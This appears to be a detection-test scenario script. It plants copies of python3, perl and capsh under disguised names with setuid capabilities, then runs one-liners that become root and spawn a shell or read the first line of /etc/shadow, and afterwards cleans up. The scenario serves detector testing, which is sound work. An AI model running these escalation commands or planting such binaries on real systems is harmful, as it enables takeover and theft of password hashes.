# root-taken-by-interpreter: an ordinary user finds programs that may change their user, and becomes root by a one-liner.
# shows: setuid(0) in the arguments of interpreters and capsh
# as: ops
# label: malicious
# expects: [root-taken-by-interpreter]
# allows: [shell-spawned-by-utility, password-hashes-read]
prepare() {
    cp /usr/bin/python3 /usr/local/bin/report && setcap cap_setuid+ep /usr/local/bin/report
    cp /usr/bin/perl /usr/local/bin/mailcheck && chmod 4755 /usr/local/bin/mailcheck
    cp /usr/sbin/capsh /usr/local/bin/capsh && setcap cap_setuid,cap_setgid,cap_setpcap+ep /usr/local/bin/capsh
}
act() {
    if dev; then
        getcap /usr/local/bin/report
        /usr/local/bin/report -c 'import os; os.setuid(0); os.execl("/bin/sh", "sh", "-c", "id")'
        /usr/local/bin/capsh --gid=0 --uid=0 -- -c id
    else
        /usr/local/bin/mailcheck -e 'use POSIX; POSIX::setuid(0); exec "/bin/sh", "-c", "id";'
        /usr/local/bin/report -c "import os
os.setresuid(0, 0, 0)
print(open('/etc/shadow').readline())"
    fi
    true
}
restore() { rm -f /usr/local/bin/report /usr/local/bin/mailcheck /usr/local/bin/capsh; }
